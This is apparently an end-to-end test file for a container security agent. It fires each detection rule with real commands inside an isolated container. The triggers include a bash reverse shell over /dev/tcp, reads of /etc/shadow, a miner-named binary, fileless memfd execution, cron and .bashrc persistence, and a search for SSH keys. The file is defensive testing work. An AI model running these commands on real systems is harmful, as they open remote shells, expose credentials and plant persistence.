// Every built-in detection rule, fired by a real action inside a real container and seen
// through the real sensor, with the evidence that names it; and ordinary work that raises
// none. The container has its own network namespace with a second address on its loopback
// device (10.77.0.1), so "outbound" connections to a non-loopback address stay inside it.

#include "agent_fixture.h"
#include "runtime/rules/rule.h"
#include "support/testbed.h"

namespace bulkhead::agent::testing {
namespace {

struct Trigger {
  const char* rule;
  const char* script;      // sh -c, inside the container
  const char* evidenceKey;  // a field of the alert's evidence to check, or nullptr
  const char* evidence;     // its expected value (a prefix)
};

#if defined(__x86_64__)
#define NR_FINIT_MODULE "313"
#define NR_PTRACE "101"
#define NR_SETUID "105"
#define NR_IO_URING_SETUP "425"
#define NR_OPEN_BY_HANDLE_AT "304"
#define NR_BPF "321"
#elif defined(__aarch64__)
#define NR_FINIT_MODULE "273"
#define NR_PTRACE "117"
#define NR_SETUID "146"
#define NR_IO_URING_SETUP "425"
#define NR_OPEN_BY_HANDLE_AT "265"
#define NR_BPF "280"
#endif

// perl-base (essential in Debian) makes raw system calls; python3-minimal has no ctypes.
const Trigger kTriggers[] = {
    {"BH-RT-0001",
     "socat TCP-LISTEN:9001,bind=10.77.0.1,reuseaddr EXEC:'sleep 3' & sleep 0.5; "
     "timeout 2 bash -c 'exec bash -i </dev/tcp/10.77.0.1/9001 >&0 2>&0'; wait",
     "kind", "exec"},
    {"BH-RT-0002", "timeout 2 bash -c 'exec 3<>/dev/tcp/10.77.0.1/9002'; true", "port", nullptr},
    {"BH-RT-0003",
     "python3 -c 'import socket,os; s=socket.socket(); s.bind((\"127.0.0.1\",8083)); s.listen(); os.system(\"sleep 1\")'",
     "kind", "exec"},
    {"BH-RT-0004", "dpkg --version >/dev/null", "path", "/usr/bin/dpkg"},
    {"BH-RT-0005", "touch /usr/bin/e2e-dropped; rm -f /usr/bin/e2e-dropped", "path", "/usr/bin/e2e-dropped"},
    {"BH-RT-0006", "touch /usr/lib/e2e-dropped.so; rm -f /usr/lib/e2e-dropped.so", "path", "/usr/lib/e2e-dropped.so"},
    {"BH-RT-0007", "cat /etc/shadow >/dev/null", "path", "/etc/shadow"},
    {"BH-RT-0008", "su -s /bin/sh -c 'sleep 1' root", "path", "/usr/bin/su"},
    {"BH-RT-0009", "timeout 1 socat TCP-LISTEN:7072,reuseaddr - ; true", "kind", "listen"},
    {"BH-RT-0010",
     "python3 -c 'import socket; s=socket.socket(); s.settimeout(1); s.connect_ex((\"10.77.0.1\",8080))'", "address",
     "10.77.0.1"},
    {"BH-RT-0011", "mount -t tmpfs none /mnt 2>/dev/null; true", "kind", "mount"},
    {"BH-RT-0012", "unshare --user true 2>/dev/null; true", nullptr, nullptr},
    {"BH-RT-0013", "(echo core >/proc/sys/kernel/core_pattern) 2>/dev/null; true", "path", "/proc/sys/kernel/core_pattern"},
    {"BH-RT-0014",
     "socat UNIX-LISTEN:/run/docker.sock,fork /dev/null & sleep 0.5; echo x | socat - UNIX-CONNECT:/run/docker.sock; "
     "kill $!; true",
     "address", "/run/docker.sock"},
    {"BH-RT-0015", "perl -e 'my $p = \"\"; syscall(" NR_FINIT_MODULE ", -1, $p, 0)'", "kind", "module"},
    {"BH-RT-0016", "sleep 2 & perl -e 'syscall(" NR_PTRACE ", 16, $ARGV[0], 0, 0)' $!; kill $!; true", "kind", "ptrace"},
    {"BH-RT-0017", "cp /usr/bin/sleep /tmp/xmrig && /tmp/xmrig 0.2; rm -f /tmp/xmrig", "path", "/tmp/xmrig"},
    {"BH-RT-0018",
     "python3 -c 'import socket; s=socket.socket(); s.settimeout(1); s.connect_ex((\"10.77.0.1\",3333))'", "port", nullptr},
    {"BH-RT-0019", "setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(" NR_SETUID ", 0)'", "kind",
     "setuid"},
    {"BH-RT-0021",
     "python3 -c 'import os; f = os.memfd_create(\"x\"); os.write(f, open(\"/usr/bin/true\", \"rb\").read()); "
     "os.execv(\"/proc/self/fd/%d\" % f, [\"x\"])'",
     "fileless", nullptr},
    {"BH-RT-0022", "perl -e '$h = pack(\"LL\", 8, 1) . (\"\\0\" x 8); syscall(" NR_OPEN_BY_HANDLE_AT ", -100, $h, 0)'",
     "detail", "open_by_handle_at"},
    {"BH-RT-0020", "perl -e '$p = \"\\0\" x 120; syscall(" NR_IO_URING_SETUP ", 4, $p) >= 0 or die \"$!\"'", "kind",
     "io_uring"},
    {"BH-RT-0005", "echo x >/tmp/e2e-moved && mv /tmp/e2e-moved /usr/sbin/e2e-moved; rm -f /usr/sbin/e2e-moved", "kind",
     "rename"},
    {"BH-RT-0023", "ln -sf /etc/shadow /tmp/e2e-shadow; rm -f /tmp/e2e-shadow", "detail", "/etc/shadow"},
    {"BH-RT-0024", "echo x >>/root/.bash_history; rm -f /root/.bash_history", "kind", "unlink"},
    {"BH-RT-0025", "cp /bin/true /tmp/e2e-suid && chmod u+s /tmp/e2e-suid; rm -f /tmp/e2e-suid", "path", "/tmp/e2e-suid"},
    {"BH-RT-0026", "mkdir -p /tmp/e2e-cg && echo /x >/tmp/e2e-cg/release_agent; rm -rf /tmp/e2e-cg", "path",
     "/tmp/e2e-cg/release_agent"},
    {"BH-RT-0027", "sh -c 'exec 3>/proc/self/exe' 2>/dev/null; true", "path", "/proc/self/exe"},
    {"BH-RT-0028", "find / -maxdepth 2 -name id_rsa", "path", "/usr/bin/find"},
    {"BH-RT-0029", "perl -e 'socket(my $s, 17, 3, 768)'", "kind", "socket"},  // AF_PACKET, SOCK_RAW, ETH_P_ALL
    {"BH-RT-0030", "perl -e 'syscall(" NR_BPF ", 5, 0, 0)'", "kind", "bpf"},   // BPF_PROG_LOAD, refused
    {"BH-RT-0031", "mkdir -p /etc/cron.d && echo '* * * * * root true' >/etc/cron.d/e2e; rm -f /etc/cron.d/e2e", "path",
     "/etc/cron.d/e2e"},
    {"BH-RT-0032", "cat /etc/group >/tmp/e2e-group && cat /tmp/e2e-group >/etc/group; rm -f /tmp/e2e-group", "path",
     "/etc/group"},
    {"BH-RT-0033", "echo '# e2e' >>/root/.bashrc", "path", "/root/.bashrc"},
    {"BH-RT-0034", "cp /bin/true /tmp/e2e-dropped && /tmp/e2e-dropped; rm -f /tmp/e2e-dropped", "path", "/tmp/e2e-dropped"},
};

class AgentRules : public AgentE2e {
 protected:
  void SetUp() override {
    AgentE2e::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    // Monitor with an empty profile: rules apply in every mode, and "new" listening ports
    // and peers are new to a profile in force.
    AgentOptions o = options(runtime::Mode::kMonitor);
    o.moduleAttempts = true;  // BH-RT-0015 on kernels that cannot load modules
    startAgent(o);
    container_ = run("bulkhead-test/rules:1");
    ASSERT_TRUE(container_);
    const std::string pid = std::to_string(container_->pid());
    auto r = bulkhead::testing::runCommand({"nsenter", "-t", pid, "-n", "ip", "addr", "add", "10.77.0.1/32", "dev", "lo"});
    ASSERT_EQ(r.exitCode, 0) << r.err;
  }
  std::unique_ptr<bulkhead::testing::RuncContainer> container_;
};

TEST_F(AgentRules, EachRuleFiresOnARealAction) {
  auto rules = runtime::loadRules({});
  ASSERT_TRUE(rules) << rules.error().message;
  std::set<std::string> covered;
  for (const auto& t : kTriggers) {
    SCOPED_TRACE(t.rule);
    covered.insert(t.rule);
    const size_t from = log_->size();
    const auto r = sh(*container_, t.script);
    auto alert = log_->waitFor(ruleAlert(t.rule, container_->id()), from);
    ASSERT_TRUE(alert) << "no alert for: " << t.script << "\nexit " << r.exitCode << ": " << r.out << r.err;
    EXPECT_EQ((*alert)["mode"], "monitor");
    EXPECT_FALSE((*alert)["mitre"].empty());
    EXPECT_EQ((*alert)["group"], groupOf("bulkhead-test/rules:1"));
    if (t.evidenceKey != nullptr) {
      const json& evidence = (*alert)["evidence"];
      ASSERT_TRUE(evidence.contains(t.evidenceKey)) << alert->dump();
      if (t.evidence != nullptr) {
        EXPECT_EQ(evidence[t.evidenceKey].get<std::string>().rfind(t.evidence, 0), 0u) << alert->dump();
      }
    }
  }
  for (const auto& rule : *rules) EXPECT_TRUE(covered.contains(rule.id)) << rule.id << " has no real trigger here";
}

// A relative path is no way around the rules: the sensor reports the opened file, or the
// renamed one, by its path from the container's root. Nor is a link or a roundabout name.
TEST_F(AgentRules, RelativePathsFireTheSameRules) {
  const Trigger cases[] = {
      {"BH-RT-0007", "cd /etc && cat ./shadow >/dev/null", "path", "/etc/shadow"},
      // Nor is a roundabout name or a link for a read: it is judged by where it lands.
      {"BH-RT-0007", "cat //etc/shadow >/dev/null", "path", "/etc/shadow"},
      {"BH-RT-0007", "cat /proc/self/root/etc/../etc/shadow >/dev/null", "path", "/etc/shadow"},
      {"BH-RT-0007", "ln -s /etc /tmp/e2e-etc && cat /tmp/e2e-etc/shadow >/dev/null; rm -f /tmp/e2e-etc", "path", "/etc/shadow"},
      // Nor another name for the file itself, a hard link or the file renamed: it is known
      // by its identity, and reported by its own path.
      {"BH-RT-0007", "ln /etc/shadow /tmp/e2e-hard && cat /tmp/e2e-hard >/dev/null; rm -f /tmp/e2e-hard", "path", "/etc/shadow"},
      {"BH-RT-0007", "mv /etc/gshadow /tmp/e2e-g && cat /tmp/e2e-g >/dev/null; mv /tmp/e2e-g /etc/gshadow", "detail",
       "/tmp/e2e-g"},
      {"BH-RT-0005", "cd /usr/bin && touch e2e-relative && rm -f e2e-relative", "path", "/usr/bin/e2e-relative"},
      {"BH-RT-0006", "cd /usr/share && touch ../lib/e2e-relative.so && rm -f /usr/lib/e2e-relative.so", "path",
       "/usr/lib/e2e-relative.so"},
      {"BH-RT-0005", "cd /usr/bin && echo x >/tmp/e2e-moved && mv /tmp/e2e-moved e2e-moved && rm -f e2e-moved", "path",
       "/usr/bin/e2e-moved"},
      {"BH-RT-0005", "echo x >/tmp/e2e-dots && mv /tmp/e2e-dots /tmp/../usr/bin/e2e-dots; rm -f /usr/bin/e2e-dots", "kind",
       "rename"},
      {"BH-RT-0023", "mkdir -p /tmp/e2e-d && ln -sf ../../etc/shadow /tmp/e2e-d/s; rm -rf /tmp/e2e-d", "detail", "/etc/shadow"},
      // Nor is a symlinked directory, for a write: the sensor reports the file's real path.
      {"BH-RT-0005", "ln -s /usr/bin /tmp/e2e-bin && touch /tmp/e2e-bin/e2e-via-link && rm -f /tmp/e2e-bin/e2e-via-link /tmp/e2e-bin",
       "path", "/usr/bin/e2e-via-link"},
      // Nor for a path change, while the link is there when the agent reads the event.
      {"BH-RT-0023", "ln -s /etc /tmp/e2e-e2 && ln -s /tmp/e2e-e2/shadow /tmp/e2e-s2 && sleep 1; rm -f /tmp/e2e-s2 /tmp/e2e-e2",
       "detail", "/etc/shadow"},
      // (The file moved is on the root file system, as /usr/bin is: a real rename, not a copy.)
      {"BH-RT-0005", "ln -s /usr/bin /tmp/e2e-b2 && echo x >/root/e2e-mv && mv /root/e2e-mv /tmp/e2e-b2/e2e-mv && sleep 1; "
       "rm -f /tmp/e2e-b2/e2e-mv /tmp/e2e-b2", "kind", "rename"},
  };
  for (const Trigger& t : cases) {
    SCOPED_TRACE(t.script);
    const size_t from = log_->size();
    const auto r = sh(*container_, t.script);
    ASSERT_EQ(r.exitCode, 0) << r.err;
    // The alert with this evidence: a late alert of the case before, for the same rule, is
    // not this case's.
    const Predicate fired = ruleAlert(t.rule, container_->id());
    auto alert = log_->waitFor(
        [&](const json& j) {
          return fired(j) && j.contains("evidence") && j["evidence"].value(t.evidenceKey, std::string()) == t.evidence;
        },
        from);
    ASSERT_TRUE(alert) << "no " << t.rule << " alert with " << t.evidenceKey << " " << t.evidence;
  }
}

// Ordinary work (reading, writing scratch files, a loopback request to a local server)
// raises profile deviations in Monitor, never a detection rule. (A server that hands its
// connection to `sh -c`, socat's SYSTEM, is a shell wired to the network: BH-RT-0001.)
TEST_F(AgentRules, OrdinaryWorkRaisesNoRuleAlert) {
  const size_t from = log_->size();
  const auto r = sh(*container_,
                    "cat /etc/hostname /etc/passwd >/dev/null; ls -l /usr/bin >/dev/null; echo x >/tmp/scratch; "
                    "mv /tmp/scratch /tmp/scratch2 && chmod 640 /tmp/scratch2 && ln -s scratch2 /tmp/scratch && rm /tmp/scratch /tmp/scratch2; "
                    "mkdir -p /var/cache/app && echo y >/var/cache/app/data; "
                    "socat -u OPEN:/etc/hostname TCP-LISTEN:8089,bind=127.0.0.1,reuseaddr & sleep 0.5; "
                    "socat -u TCP:127.0.0.1:8089 - >/dev/null; wait; id -u");
  ASSERT_EQ(r.exitCode, 0) << r.err;
  // Something was seen (the deviations of an empty profile), so silence means something.
  ASSERT_TRUE(log_->waitFor(profileAlert("exec", container_->id()), from));
  std::this_thread::sleep_for(std::chrono::seconds(1));
  for (const auto& a : log_->all([](const json& j) { return j.contains("rule"); }, from)) {
    if (a["rule"] == "BH-RT-0009") continue;  // 8089 is a new listening port: that one is right
    ADD_FAILURE() << "ordinary work raised " << a.dump();
  }
}

}  // namespace
}  // namespace bulkhead::agent::testing
